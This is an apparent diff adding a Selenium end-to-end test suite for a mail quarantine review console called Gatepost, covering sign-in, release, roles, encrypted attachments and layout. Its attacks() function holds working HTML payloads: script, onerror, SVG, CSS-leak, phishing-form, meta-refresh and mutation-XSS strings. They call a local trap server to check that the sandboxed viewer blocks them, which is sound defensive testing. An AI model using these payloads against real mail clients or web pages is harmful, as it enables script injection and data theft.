@@ -1,0 +1,522 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""The console in a real browser, driven as a person would: every page, every role, both languages,
+and mails that attack whoever looks at them.
+
+  browser.py BUILD [--only WORD]
+
+One line a scenario; exit 1 when one failed. Screenshots: BUILD/console-screens."""
+import argparse
+import inspect
+import io
+import json
+import pathlib
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import traceback
+import http.server
+
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+from selenium.webdriver.support.ui import Select, WebDriverWait
+
+import house as house_module
+from house import House, letter
+
+WAIT = 30
+
+
+class Person:
+    """Somebody in front of the browser."""
+
+    def __init__(self, house, driver, screens):
+        self.house, self.driver, self.screens = house, driver, screens
+
+    def find(self, css):
+        return WebDriverWait(self.driver, WAIT).until(
+            lambda driver: next((one for one in driver.find_elements(By.CSS_SELECTOR, css)
+                                 if one.is_displayed()), None), f"{css} is not there")
+
+    def all(self, css):
+        return self.driver.find_elements(By.CSS_SELECTOR, css)
+
+    def wait(self, true, what):
+        WebDriverWait(self.driver, WAIT).until(lambda _: true(), what)
+
+    def see(self, words, css="main"):
+        self.wait(lambda: words in self.find(css).text, f"'{words}' is not on the page")
+
+    def click(self, css):
+        self.find(css).click()
+
+    def type(self, css, words):
+        field = self.find(css)
+        field.clear()
+        field.send_keys(words)
+
+    def shoot(self, name):
+        self.driver.save_screenshot(str(self.screens / f"{name}.png"))
+
+    def go(self, path):
+        self.driver.get(f"{self.house.url}/#/{path}")
+
+    def sign_in(self, name, language=None):
+        self.driver.delete_all_cookies()
+        self.driver.get("about:blank")
+        self.driver.get(self.house.url + "/")
+        self.type("input[name=name]", name)
+        self.type("input[name=password]", self.house.passwords[name])
+        self.click("button.primary")
+        self.find("#sign-out")
+        if language is not None:
+            self.set_language(language)
+
+    def set_language(self, language):
+        self.go("settings")
+        Select(self.find("select[name=language]")).select_by_value(language)
+        self.click("#settings button.primary")
+        self.wait(lambda: self.driver.execute_script("return document.documentElement.lang") ==
+                  language, "the language did not change")
+
+    def reason(self, words="a citizen asked for it"):
+        self.type("dialog input[name=reason]", words)
+        self.click("#dialog-go")
+
+    def errors(self):
+        return [one["message"] for one in self.driver.get_log("browser")
+                if one["level"] == "SEVERE" and " 401 " not in one["message"]]
+
+
+def entry(house, subject):
+    return next(row for row in house.held() if row["subject"] == subject)
+
+
+def test_signing_in_wrongly_then_rightly_in_both_languages(person):
+    person.driver.get(person.house.url + "/")
+    person.shoot("sign-in-vi")
+    assert "Đăng nhập" in person.find("form").text
+    person.click("button[lang=en]")
+    person.wait(lambda: "Sign in" in person.find("form").text, "English")
+    person.type("input[name=name]", "lan")
+    person.type("input[name=password]", "not the password")
+    person.click("button.primary")
+    person.see("do not fit", "form")
+    person.shoot("sign-in-wrong-en")
+    person.type("input[name=password]", person.house.passwords["lan"])
+    person.find("input[name=password]").send_keys(Keys.ENTER)
+    person.find("#sign-out")
+
+
+def test_the_list_is_filtered_sorted_and_paged(person):
+    person.sign_in("lan", "en")
+    person.go("held")
+    person.see("Offer 01")
+    person.shoot("list-en")
+    total = len(person.house.held(state="held"))
+    person.see(f"{total} messages", ".title")
+    person.type("input[name=text]", "bán mực in số 7")
+    person.find("input[name=text]").send_keys(Keys.ENTER)
+    person.wait(lambda: "1 messages" in person.find(".title").text, "one message")
+    assert "07" in person.find("tbody").text
+    person.go("held?category=virus")
+    person.see("Nothing here")
+    person.shoot("list-empty-en")
+    person.go("held?limit=5")
+    person.find("tbody tr")
+    seen = []
+    while True:
+        rows = [one.get_attribute("data-id") for one in person.all("tbody tr")]
+        seen += rows
+        if not person.find("#page-after").is_enabled():
+            break
+        person.click("#page-after")
+        person.wait(lambda: person.all("tbody tr") and
+                    person.all("tbody tr")[0].get_attribute("data-id") not in seen, "a new page")
+    assert len(seen) == len(set(seen)) == total, (len(seen), total)
+    person.go("held?sort=sender&order=asc")
+    person.find("tbody tr")
+    assert person.find("th[aria-sort=ascending]").text.startswith("Sender")
+
+
+def test_a_letter_is_read_with_its_hits_marked_and_released_to_whom_was_chosen(person):
+    person.sign_in("lan", "en")
+    held = entry(person.house, "To two people")
+    person.go(f"held/{held['id']}")
+    person.see("To two people")
+    person.click("#view")
+    person.reason("asked by the clerk")
+    mark = person.find(".text mark")
+    assert mark.text == "bán mực in", mark.text
+    assert mark.get_attribute("data-rule") == "CON-001"
+    person.shoot("detail-en")
+    other = next(one for one in person.all("#recipients input")
+                 if one.get_attribute("value") == "boss@office.example")
+    other.click()
+    person.click("button[data-act=release]")
+    person.reason("it is an order of ours")
+    person.see("released", "#recipients")
+    delivered = person.house.sink.wait("clerk@office.example")
+    assert [one.recipients for one in delivered] == [["clerk@office.example"]]
+    person.see("asked by the clerk")
+    person.see("it is an order of ours")
+    row = entry(person.house, "To two people")
+    assert row["state"] == "held" and [one["released"] for one in row["recipients"]] == [True, False]
+    person.click("button[data-act=release]")
+    person.reason("the boss as well")
+    person.wait(lambda: entry(person.house, "To two people")["state"] == "released", "released")
+    person.shoot("detail-released-en")
+    assert len(person.house.sink.all()) == 2
+
+
+def test_bulk_actions_in_vietnamese(person):
+    person.sign_in("lan", "vi")
+    person.go("held?text=bulk")
+    person.find("tbody tr")
+    for box in person.all("tbody input[type=checkbox]"):
+        box.click()
+    person.see("Đã chọn 3", ".bulk")
+    person.shoot("list-bulk-vi")
+    person.click(".bulk button[data-act=wrongly]")
+    person.reason("báo giá của công ty quen")
+    person.see("Đã đánh dấu giữ nhầm")
+    for box in person.all("tbody input[type=checkbox]"):
+        box.click()
+    person.click(".bulk button[data-act=delete]")
+    person.reason("không ai cần")
+    person.wait(lambda: len([row for row in person.house.held(state="deleted")
+                             if row["subject"].startswith("Bulk")]) == 3, "deleted")
+
+
+def test_an_encrypted_attachment_opens_with_the_password_that_the_reviewer_types(person):
+    person.sign_in("lan", "en")
+    held = entry(person.house, "Locked paper")
+    person.go(f"held/{held['id']}")
+    person.click("#open")
+    person.type("dialog input[name=password]", "wrong one")
+    person.reason()
+    person.find(".alert.warn")
+    person.click("#open")
+    person.type("dialog input[name=password]", "Quang-Tri 2026")
+    person.reason()
+    person.see("TÀI LIỆU THỬ TỐI MẬT")
+    assert any(one.get_attribute("data-rule") == "CON-002" for one in person.all(".text mark"))
+    person.shoot("encrypted-en")
+    kept = subprocess.run(["grep", "-rl", "Quang-Tri 2026", str(person.house.daemon.folder)],
+                          stdout=subprocess.PIPE, check=False).stdout.decode().split()
+    assert not kept, kept
+
+
+def test_mails_that_attack_the_reviewer_do_nothing(person):
+    """Whatever a letter tries, it reaches no address, runs nothing and shows nothing of its own."""
+    person.sign_in("lan", "en")
+    for subject in sorted(ATTACKS):
+        held = entry(person.house, subject)
+        person.go(f"held/{held['id']}")
+        person.click("#view")
+        person.reason()
+        person.find(".tabs")
+        if person.all("#tab-page"):
+            person.click("#tab-page")
+            frame = person.find("iframe.page")
+            assert frame.get_attribute("sandbox") == "", "no freedom at all"
+            person.driver.switch_to.frame(frame)
+            person.wait(lambda: "harmless words" in
+                        person.driver.find_element(By.TAG_NAME, "body").text, subject)
+            source = person.driver.execute_script if False else None  # scripts are off in there
+            for tag in ("script", "style[id]", "svg", "form", "meta[http-equiv]", "link", "iframe",
+                        "object", "embed", "math", "base", "img", "a[href]", "input", "[onclick]",
+                        "[onerror]", "[style]"):
+                assert not person.driver.find_elements(By.CSS_SELECTOR, tag), (subject, tag, source)
+            person.driver.switch_to.default_content()
+            person.shoot(f"attack-{subject.split()[1]}")
+        assert person.driver.title.endswith("Gatepost"), (subject, person.driver.title)
+        assert person.driver.current_url.startswith(person.house.url), subject
+        assert person.driver.execute_script("return window.pwned === undefined"), subject
+    time.sleep(1)
+    assert not CAUGHT, f"the browser asked for {CAUGHT}"
+    away = []
+    for one in person.driver.get_log("performance"):
+        message = json.loads(one["message"])["message"]
+        if message["method"] == "Network.requestWillBeSent":
+            url = message["params"]["request"]["url"]
+            if not url.startswith((person.house.url, "about:", "data:")):
+                away.append(url)
+    assert not away, away
+
+
+def test_a_copy_is_an_encrypted_zip(person):
+    person.sign_in("lan", "en")
+    held = entry(person.house, "Offer 01 bán mực in số 1")
+    person.go(f"held/{held['id']}")
+    person.click("#download")
+    person.reason("for the police")
+    password = person.find("#zip-password").text
+    link = person.find("#fetch-zip").get_attribute("href")
+    cookie = person.driver.get_cookie("gatepost")["value"]
+    with tempfile.TemporaryDirectory() as folder:
+        path = pathlib.Path(folder) / "copy.zip"
+        subprocess.run(["python3", "-c", "import sys,urllib.request as u;"
+                        "u.install_opener(u.build_opener(u.ProxyHandler({})));"
+                        "r=u.urlopen(u.Request(sys.argv[1],headers={'Cookie':'gatepost='+sys.argv[2]}));"
+                        "assert r.headers['Content-Disposition'].startswith('attachment');"
+                        "open(sys.argv[3],'wb').write(r.read())", link, cookie, str(path)],
+                       check=True)
+        wrong = subprocess.run(["7z", "x", "-pwrong", f"-o{folder}/no", str(path)],
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
+        assert wrong.returncode != 0
+        subprocess.run(["7z", "x", f"-p{password}", f"-o{folder}/out", str(path)], check=True,
+                       stdout=subprocess.DEVNULL)
+        raw = (pathlib.Path(folder) / "out" / f"{held['id']}.eml").read_bytes()
+    assert b"Offer_01" in raw or b"Offer 01" in raw
+    person.click("dialog button[type=button]")
+
+
+def test_each_role_sees_its_own_pages_and_no_other(person):
+    pages = {"lan": ["held", "track", "statistics"], "meta": ["held"], "boss": ["held"],
+             "auditor": ["held", "track", "statistics", "rules", "audit", "access"],
+             "admin": ["statistics", "rules", "access"], "ruler": ["statistics", "rules"]}
+    for name, mine in pages.items():
+        person.sign_in(name, "en")
+        links = [one.get_attribute("href").split("#/")[1] for one in person.all("nav.main a")]
+        assert links == mine, (name, links)
+    held = entry(person.house, "Offer 01 bán mực in số 1")
+    person.sign_in("meta", "en")
+    person.go(f"held/{held['id']}")
+    person.see("not the content")
+    assert "Offer 01" not in person.find("main").text
+    assert not person.all("#view") and not person.all("button[data-act]")
+    person.shoot("detail-metadata-only-en")
+
+
+def test_a_unit_sees_its_own_mail(person):
+    person.sign_in("finance", "en")
+    person.go("held?state=all")
+    person.find("tbody tr")
+    assert "land.office.example" not in person.find("tbody").text
+    held = entry(person.house, "For another unit")
+    person.go(f"held/{held['id']}")
+    person.see("not yours to see")
+
+
+def test_tracking_statistics_rules_audit_access(person):
+    person.sign_in("auditor", "en")
+    person.go("track?q=friend@example.net")
+    person.find("#decisions tbody tr")
+    person.shoot("track-en")
+    person.go("track?q=nobody@nowhere.example")
+    person.see("Nothing found")
+    person.go("statistics?days=1")
+    person.find("svg.chart")
+    person.see("CON-001")
+    person.shoot("statistics-en")
+    person.go("rules")
+    person.see("Offers of ink")
+    person.shoot("rules-en")
+    person.go("audit")
+    person.see("read the content")
+    person.see("asked by the clerk")
+    person.shoot("audit-en")
+    person.go("access")
+    person.see("finance")
+    person.shoot("access-en")
+    for page in ("track?q=friend@example.net", "statistics?days=1", "rules", "audit", "access"):
+        person.set_language("vi")
+        person.go(page)
+        person.find(".card")
+        time.sleep(0.5)
+        person.shoot(f"{page.split('?')[0]}-vi")
+
+
+def test_the_keyboard_is_enough(person):
+    person.sign_in("lan", "en")
+    person.go("held")
+    person.find("tbody tr")
+    for _ in range(60):
+        person.driver.switch_to.active_element.send_keys(Keys.TAB)
+        active = person.driver.switch_to.active_element
+        if active.get_attribute("class") == "subject":
+            break
+    else:
+        raise AssertionError("no letter within 60 tabs")
+    active.send_keys(Keys.ENTER)
+    person.find("#view").send_keys(Keys.ENTER)
+    person.driver.switch_to.active_element.send_keys("with the keyboard" + Keys.ENTER)
+    person.find(".tabs")
+
+
+def test_dark_and_small(person):
+    person.sign_in("lan", "vi")
+    person.go("settings")
+    Select(person.find("select[name=theme]")).select_by_value("dark")
+    person.click("#settings button.primary")
+    person.wait(lambda: person.driver.execute_script(
+        "return document.documentElement.dataset.theme") == "dark", "dark")
+    person.shoot("settings-dark-vi")
+    person.go("held")
+    person.find("tbody tr")
+    person.shoot("list-dark-vi")
+    person.driver.set_window_size(500, 900)
+    try:
+        person.shoot("list-phone-vi")
+        wide = person.driver.execute_script(
+            "return document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        assert wide <= 0, f"the page is {wide} px wider than the phone"
+        person.go(f"held/{entry(person.house, 'Offer 01 bán mực in số 1')['id']}")
+        person.find("#view")
+        person.shoot("detail-phone-vi")
+    finally:
+        person.driver.set_window_size(1280, 900)
+        person.go("settings")
+        Select(person.find("select[name=theme]")).select_by_value("auto")
+        person.click("#settings button.primary")
+
+
+def test_who_has_left_is_out_at_once(person):
+    person.sign_in("leaver", "en")
+    person.go("held")
+    person.find("tbody tr")
+    person.house.gatepost("access", "remove", "leaver")
+    person.go("held?state=all")
+    person.find("input[name=password]")
+    person.shoot("session-over-en")
+    person.house.passwords.pop("leaver")
+    assert "leaver" not in person.house.gatepost("access", "review")
+
+
+def test_no_page_broke_its_own_policy(person):
+    bad = [one for one in person.errors() if "Content Security Policy" in one or "TypeError" in one]
+    assert not bad, bad
+
+
+CAUGHT = []
+
+
+class Trap(http.server.BaseHTTPRequestHandler):
+    """Where the attacks would like to go."""
+
+    def do_GET(self):
+        CAUGHT.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, *_):
+        pass
+
+
+def attacks(trap):
+    bait = "<p>harmless words</p>"
+    return {
+        "Attack script": f"<script>window.top.pwned=1;fetch('{trap}/script')</script>{bait}"
+                         f"<img src=x onerror=\"top.pwned=1;new Image().src='{trap}/onerror'\">"
+                         f"<body onload=\"top.pwned=1\"><a href=\"javascript:top.pwned=1\">x</a>",
+        "Attack svg": f"<svg onload=\"top.pwned=1\"><script>top.pwned=1</script>"
+                      f"<image href=\"{trap}/svg.png\"/><foreignObject><iframe src=\"{trap}/fo\">"
+                      f"</iframe></foreignObject></svg>{bait}",
+        "Attack css": f"<style>@import url({trap}/import);body{{background:url({trap}/bg)}}"
+                      f"input[value^=a]{{background:url({trap}/leak)}}"
+                      f"@font-face{{font-family:x;src:url({trap}/font)}}</style>"
+                      f"<link rel=stylesheet href=\"{trap}/sheet\">"
+                      f"<div style=\"background:url({trap}/inline);position:fixed;inset:0\">{bait}</div>",
+        "Attack form": f"<form action=\"{trap}/form\" method=post><input name=password autofocus>"
+                       f"<button formaction=\"{trap}/button\">Sign in again</button></form>{bait}",
+        "Attack refresh": f"<meta http-equiv=refresh content=\"0;url={trap}/refresh\">"
+                          f"<base href=\"{trap}/\">{bait}<iframe src=\"{trap}/frame\"></iframe>"
+                          f"<object data=\"{trap}/object\"></object><embed src=\"{trap}/embed\">"
+                          f"<video src=\"{trap}/video\" autoplay></video>",
+        "Attack mxss": "<math><mtext><table><mglyph><style><!--</style>"
+                       f"<img title=\"--&gt;&lt;img src=1 onerror=top.pwned=1&gt;\"></math>{bait}"
+                       "<noscript><p title=\"</noscript><img src=x onerror=top.pwned=1>\">"
+                       "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\""
+                       "</style><img onerror=top.pwned=1 src>\"></svg></math>"
+                       "<svg></p><style><a id=\"</style><img src=1 onerror=top.pwned=1>\"></svg>"
+                       "<listing>&lt;img onerror=top.pwned=1 src=x&gt;</listing>" + bait,
+        "Attack links": f"<a href=\"{trap}/click\" ping=\"{trap}/ping\">{bait}</a>"
+                        f"<a href=\"data:text/html,<script>top.pwned=1</script>\">data</a>"
+                        f"<map><area href=\"{trap}/area\"></map><img src=\"{trap}/pixel.gif\" width=1>"
+                        f"<img srcset=\"{trap}/srcset 2x\"><link rel=prefetch href=\"{trap}/prefetch\">"
+                        f"<link rel=dns-prefetch href=\"//example.com\">",
+    }
+
+
+ATTACKS = {}
+
+
+def fill(house, trap):
+    ATTACKS.update(attacks(trap))
+    for number in range(1, 13):
+        house.send(letter(f"Offer {number:02} bán mực in số {number}",
+                          f"Kính gửi văn phòng,\n\nChúng tôi bán mực in chính hãng, lô số {number}.\n"
+                          f"Xem bảng giá kèm theo.\n"),
+                   sender=f"shop{number % 4}@example.net")
+    for number in range(3):
+        house.send(letter(f"Bulk {number}", f"bán mực in {number}\n"))
+    house.send(letter("To two people", "Báo giá: bán mực in cho hai người.\n"),
+               recipients=("clerk@office.example", "boss@office.example"))
+    house.send(letter("For another unit", "bán mực in cho địa chính\n"),
+               recipients=("map@land.office.example",), sender="land@example.net")
+    house.send(letter("A plain letter", "Xin chào\n"))
+    with tempfile.TemporaryDirectory() as folder:
+        path = pathlib.Path(folder)
+        (path / "mat.txt").write_text("Đây là TÀI LIỆU THỬ TỐI MẬT.\n")
+        subprocess.run(["zip", "-q", "-j", "-P", "Quang-Tri 2026", str(path / "a.zip"),
+                        str(path / "mat.txt")], check=True)
+        house.send(letter("Locked paper", "Mật khẩu sẽ báo qua điện thoại.\n",
+                          attachments=[("giay.zip", "application/zip",
+                                        (path / "a.zip").read_bytes())]))
+    for subject, html in ATTACKS.items():
+        house.send(letter(subject, html=html + "<p>bán mực in</p>"))
+    house.account("lan", "releaser", "content-viewer")
+    house.account("meta", "metadata-viewer")
+    house.account("boss", "approver")
+    house.account("auditor", "auditor")
+    house.account("admin", "administrator")
+    house.account("ruler", "rule-approver")
+    house.account("leaver", "releaser")
+    house.account("finance", "releaser", "content-viewer", extra=("--unit", "finance"))
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("build")
+    parser.add_argument("--only", default="")
+    arguments = parser.parse_args()
+    screens = pathlib.Path(arguments.build) / "console-screens"
+    screens.mkdir(exist_ok=True)
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    house = House(arguments.build)
+    failed = ran = 0
+    try:
+        fill(house, f"http://127.0.0.1:{server.server_port}")
+        house.open_console()
+        with house_module.browser(screens) as driver:
+            person = Person(house, driver, screens)
+            for name, function in list(globals().items()):
+                if not name.startswith("test_") or not inspect.isfunction(function):
+                    continue
+                if arguments.only not in name:
+                    continue
+                ran += 1
+                try:
+                    function(person)
+                    word = "ok  "
+                except Exception as error:  # pylint: disable=broad-except
+                    word, failed = "FAIL", failed + 1
+                    where = [one.lineno for one in traceback.extract_tb(error.__traceback__)
+                             if one.filename == __file__]
+                    print(f"  line {where}: {type(error).__name__}: {str(error)[:500]}")
+                    person.shoot(f"failed-{ran}")
+                print(f"{word} {name[5:].replace('_', ' ')}", flush=True)
+    finally:
+        house.close()
+    print(f"{ran - failed} of {ran} scenarios passed")
+    return 1 if failed or not ran else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
